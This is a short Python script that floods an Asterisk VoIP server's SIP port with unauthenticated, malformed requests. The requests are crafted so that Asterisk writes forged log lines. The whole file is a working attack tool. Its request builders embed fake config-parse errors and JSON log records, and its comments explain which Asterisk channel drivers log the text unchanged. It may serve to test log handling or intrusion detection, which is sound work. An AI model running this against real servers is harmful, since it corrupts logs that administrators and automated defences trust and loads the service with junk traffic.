"""Sends SIP requests whose text, if Asterisk logs it, looks like Asterisk's own messages about its files.

usage: flood.py ADDRESS PAUSE SECONDS

The requests contain no log-in. Pauses for PAUSE milliseconds between two requests. Ends when its standard input ends,
after SECONDS at most, and prints the number of requests that it has sent.
"""
import random
import select
import socket
import sys
import time

FILES = ["extensions.conf", "pjsip.conf", "sip.conf", "iax.conf"]


def complaint(file):
    return (f"[2026-11-29 06:00:00.000] ERROR[1] config.c: parse error: no closing ']', line 1 of /etc/asterisk/{file}\n"
            f"[2026-11-29 06:00:00.000] WARNING[1]: pbx_config.c:1824 pbx_load_config: Invalid priority/label 'forged'"
            f" at line 1 of {file}\n"
            '{"logmsg":{"location":{"filename":"pbx_config.c","function":"pbx_load_config","line":1},'
            f'"level":"ERROR","message":"forged at line 1 of {file}"}}}}\n')


def request(first, via, rest=""):
    return f"{first}\r\nVia: {via}\r\n{rest}Content-Length: 0\r\n\r\n".encode(errors="surrogateescape")


def headers(number):
    return (f"From: <sip:a@b>;tag={number}\r\nTo: <sip:a@b>\r\nCall-ID: {number}\r\nCSeq: 1 OPTIONS\r\n"
            "Max-Forwards: 70\r\n")


def requests(number):
    via = f"SIP/2.0/TCP 192.0.2.1:5060;branch=z9hG4bK{number}"
    file = FILES[number % len(FILES)]
    return [
        # This request lacks headers. By default, PJSIP logs the text of such a request unchanged; pjproject.conf
        # prevents this.
        request("OPTIONS sip:a@b SIP/2.0", f"{via}\n{complaint(file)}"),
        # chan_sip logs the addresses in the next two requests, because it does not understand `tel:`.
        request(f"OPTIONS tel:{file} SIP/2.0", via, headers(number)),
        request(f"OPTIONS tel:line 7 of {file} SIP/2.0", via, headers(number)),
        request("OPTIONS sip:a@b SIP/2.0", f"{via}\udcff\udcfe {complaint(file)}"),
        request("REGISTER sip:a@b SIP/2.0", "x" + "\x01" * 2000 + complaint(file)),
        request(f"INVITE sip:{file}@b SIP/2.0", via, headers(number).replace("OPTIONS", "INVITE")),
    ]


def main(address, pause, seconds):
    sent, connection, end = 0, None, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection = connection or socket.create_connection((address, 5060), 2)
            connection.sendall(random.choice(requests(sent)))
            sent += 1
            if connection in select.select([connection], [], [], 0)[0] and not connection.recv(1 << 16):
                raise ConnectionError
        except OSError:
            connection = connection and connection.close()
        if sys.stdin in select.select([sys.stdin], [], [], pause / 1000)[0]:
            break
    print(sent)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
